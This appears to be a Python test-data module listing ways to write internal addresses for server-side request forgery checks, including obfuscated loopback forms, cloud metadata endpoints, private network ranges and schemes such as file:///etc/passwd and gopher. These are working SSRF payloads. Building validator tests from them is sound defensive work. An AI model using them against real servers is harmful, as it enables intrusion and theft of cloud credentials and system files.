"""Ways to write an address that is not public, as they are used against servers that fetch what they are told."""

from __future__ import annotations

from typing import Final

PORT: Final = "{port}"

LOOPBACK: Final = (
    "http://127.0.0.1:{port}/secret",
    "http://127.0.0.1.:{port}/secret",
    "http://127.1:{port}/secret",
    "http://127.0.1:{port}/secret",
    "http://2130706433:{port}/secret",
    "http://0x7f000001:{port}/secret",
    "http://0x7f.1:{port}/secret",
    "http://0x7f.0x0.0x0.0x1:{port}/secret",
    "http://017700000001:{port}/secret",
    "http://0177.0.0.1:{port}/secret",
    "http://0177.0.0.01:{port}/secret",
    "http://127.0.0.1:{port}#@example.org/secret",
    "http://example.org@127.0.0.1:{port}/secret",
    "http://example.org:80@127.0.0.1:{port}/secret",
    "http://127.0.0.1:{port}\\@example.org/secret",
    "http://127.0.0.1%2f@127.0.0.1:{port}/secret",
    "http://%31%32%37.0.0.1:{port}/secret",
    "http://１２７.0.0.1:{port}/secret",
    "http://①②⑦.⓪.⓪.①:{port}/secret",
    "http://127。0。0。1:{port}/secret",
    "http://0:{port}/secret",
    "http://0.0.0.0:{port}/secret",
    "http://127.255.255.254:{port}/secret",
    "http://localhost:{port}/secret",
    "http://LOCALHOST:{port}/secret",
    "http://localhost.:{port}/secret",
    "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ:{port}/secret",
    "http://[::1]:{port}/secret",
    "http://[0:0:0:0:0:0:0:1]:{port}/secret",
    "http://[::]:{port}/secret",
    "http://[::ffff:127.0.0.1]:{port}/secret",
    "http://[::ffff:7f00:1]:{port}/secret",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:{port}/secret",
    "http://[::127.0.0.1]:{port}/secret",
    "http://[64:ff9b::7f00:1]:{port}/secret",
    "http://[2002:7f00:1::]:{port}/secret",
    "http://[::1%25lo]:{port}/secret",
    "http://\t127.0.0.1:{port}/secret",
    "http://127.0.0.1\n:{port}/secret",
    " http://127.0.0.1:{port}/secret",
    "http:127.0.0.1:{port}/secret",
    "http:/\\127.0.0.1:{port}/secret",
    "http:\\\\127.0.0.1:{port}\\secret",
    "//127.0.0.1:{port}/secret",
    "HTTP://127.0.0.1:{port}/secret",
    "https://127.0.0.1:{port}/secret",
    "url:http://127.0.0.1:{port}/secret",
)
OTHER_NETWORKS: Final = (
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/",
    "http://[::ffff:a9fe:a9fe]/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://100.100.100.200/latest/meta-data/",
    "http://192.0.0.192/latest/",
    "http://10.0.0.1/",
    "http://172.16.0.1/",
    "http://192.168.0.1/",
    "http://100.64.0.1/",
    "http://198.18.0.1/",
    "http://224.0.0.1/",
    "http://255.255.255.255/",
    "http://[fe80::1]/",
    "http://[fc00::1]/",
    "http://[ff02::1]/",
)
OTHER_SCHEMES: Final = (
    "file:///etc/passwd",
    "file://127.0.0.1/etc/passwd",
    "FILE:/etc/passwd",
    "gopher://127.0.0.1:{port}/_GET%20/secret",
    "dict://127.0.0.1:{port}/secret",
    "ftp://127.0.0.1:{port}/secret",
    "ldap://127.0.0.1:{port}/secret",
    "jar:http://127.0.0.1:{port}/secret!/",
    "view-source:http://127.0.0.1:{port}/secret",
    "data:text/html,<p>secret</p>",
    "javascript:alert(1)",
)


def list_forms(port: int) -> list[str]:
    """All forms; those that name a port name this one."""
    return [form.replace(PORT, str(port)) for form in (*LOOPBACK, *OTHER_NETWORKS, *OTHER_SCHEMES)]
